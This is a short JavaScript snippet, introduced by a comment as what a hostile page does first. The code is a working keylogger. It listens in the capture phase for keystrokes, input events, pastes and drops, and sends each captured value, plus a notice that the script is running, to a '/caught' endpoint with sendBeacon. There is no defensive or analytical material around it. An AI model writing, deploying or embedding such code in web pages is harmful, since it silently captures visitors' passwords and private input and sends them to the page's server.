// What a hostile page does first: it listens to every key before anybody else can, and tells the
// server at once that it runs and what it hears.
(() => {
  const tell = (what) => navigator.sendBeacon("/caught", `${location.hostname} ${what}`);
  tell("script");
  const kinds = ["keydown", "keypress", "keyup", "beforeinput", "input", "paste", "drop"];
  for (const kind of kinds) {
    addEventListener(kind, (event) => tell(`${kind} ${event.key ?? event.data ?? ""}`), true);
  }
})();
